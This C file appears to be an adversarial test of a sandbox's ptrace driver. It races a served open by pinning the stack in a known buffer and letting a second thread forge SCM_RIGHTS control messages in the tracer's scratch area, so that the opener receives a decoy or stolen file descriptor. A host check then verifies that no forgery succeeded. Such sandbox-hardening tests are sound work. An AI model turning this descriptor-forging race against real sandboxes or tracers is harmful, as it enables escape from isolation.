/* The ptrace driver's served open, attacked through its scratch buffer (tracer_receive.h).
 *
 * Under the ptrace driver a served open's file is received by a recvmsg the thread is made
 * to run, its msghdr and cmsg in a scratch area below the thread's stack pointer; the
 * driver reads the number back from that cmsg, memory the VM can write. Here one thread
 * opens /data/f-N with its stack pointer moved into a buffer of its own for the call (so
 * the scratch is at a known place, and writing there breaks nothing of the program), and
 * writes each file's name into the fd it gets. Another thread writes forged cmsgs into
 * that scratch without pause, naming the decoy, the opener's previous file, a number it
 * just took from the kept socket (a file received behind the opener's back), or none;
 * and it takes what is queued on the kept sockets.
 *
 * The host checks what the files hold: each /data/f-N its own name or nothing (an open
 * that failed), the decoy untouched. A forged number is the open's result only where it
 * names the very file the manager opened for that open.
 *
 *     forged_cmsg TRIES SECONDS
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define LOW 1000
#define COUNT 4
#define RING 64
#define AREA 8192
/* tracer_receive.h: the scratch at (rsp - 128 - 128) & ~15, its cmsg 96 bytes in. */
#define CMSG_FROM_TOP (256 - 96)

static char area[AREA] __attribute__((aligned(64)));
static atomic_int stop, previous = -1, last_taken = -1;
static atomic_long forged, taken;
static int decoy;

/* openat(AT_FDCWD, path, flags, mode) with the stack pointer at the top of ``area``. */
static long open_on_area(const char *path, long flags, long mode) {
    long result;
    register long r10 __asm__("r10") = mode;
    char *top = area + AREA;
    __asm__ volatile("mov %%rsp, %%r12\n\t"
                     "mov %[top], %%rsp\n\t"
                     "syscall\n\t"
                     "mov %%r12, %%rsp\n\t"
                     : "=a"(result)
                     : "a"(257L), "D"(-100L), "S"(path), "d"(flags), "r"(r10), [top] "r"(top)
                     : "rcx", "r11", "r12", "memory");
    return result;
}

static int take(int fd) {
    char byte;
    char control[CMSG_SPACE(sizeof(int))];
    struct iovec iov = {&byte, 1};
    struct msghdr msg = {0};
    msg.msg_iov = &iov;
    msg.msg_iovlen = 1;
    msg.msg_control = control;
    msg.msg_controllen = sizeof control;
    if (recvmsg(fd, &msg, MSG_DONTWAIT) < 0)
        return -1;
    int got = -1;
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    if (c && c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_RIGHTS)
        memcpy(&got, CMSG_DATA(c), sizeof got);
    return got;
}

static void forge(int fd) {
    struct {
        uint64_t len;
        int32_t level, type, fd;
    } cmsg = {20, SOL_SOCKET, SCM_RIGHTS, fd};
    memcpy(area + AREA - CMSG_FROM_TOP, &cmsg, 20);
    atomic_fetch_add(&forged, 1);
}

static void *tamper(void *unused) {
    (void)unused;
    int ring[RING], next = 0;
    for (int i = 0; i < RING; i++)
        ring[i] = -1;
    for (long i = 0; !atomic_load(&stop); i++) {
        if ((i & 0xffff) == 0xffff)
            usleep(300); /* a quiet moment now and then: opens served whole, not only refused */
        switch (i % 4) {
        case 0:
            forge(decoy);
            break;
        case 1:
            forge(atomic_load(&previous));
            break;
        case 2: { /* a file taken off the kept socket: kept open a while, the opener may get its number */
            for (int fd = LOW; fd < LOW + COUNT; fd++) {
                int got = take(fd);
                if (got < 0)
                    continue;
                atomic_fetch_add(&taken, 1);
                atomic_store(&last_taken, got);
                forge(got);
                if (ring[next] >= 0)
                    close(ring[next]);
                ring[next] = got;
                next = (next + 1) % RING;
            }
            break;
        }
        default:
            forge(atomic_load(&last_taken));
        }
    }
    for (int i = 0; i < RING; i++)
        if (ring[i] >= 0)
            close(ring[i]);
    return NULL;
}

int main(int argc, char **argv) {
    attack_begin(argc, argv);
    decoy = open("/data/decoy", O_RDWR);
    if (decoy < 0) {
        perror("/data/decoy");
        return 1;
    }
    pthread_t thread;
    pthread_create(&thread, NULL, tamper, NULL);
    long opened = 0, failed = 0, eio = 0, shared = 0;
    long i;
    for (i = 0; attack_more(i); i++) {
        char name[64], text[64];
        snprintf(name, sizeof name, "/data/f-%ld", i);
        long fd = open_on_area(name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0) {
            failed++;
            eio += fd == -EIO;
            continue;
        }
        shared += fd == atomic_load(&last_taken); /* the taken file's number, answered as the open's */
        int length = snprintf(text, sizeof text, "f-%ld", i);
        if (pwrite((int)fd, text, length, 0) == length)
            opened++;
        int before = atomic_exchange(&previous, (int)fd);
        if (before >= 0)
            close(before);
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    printf("{\"tries\": %ld, \"opened\": %ld, \"failed\": %ld, \"eio\": %ld, \"shared\": %ld, \"forged\": %ld, "
           "\"taken\": %ld}\n",
           i, opened, failed, eio, shared, atomic_load(&forged), atomic_load(&taken));
    return 0;
}
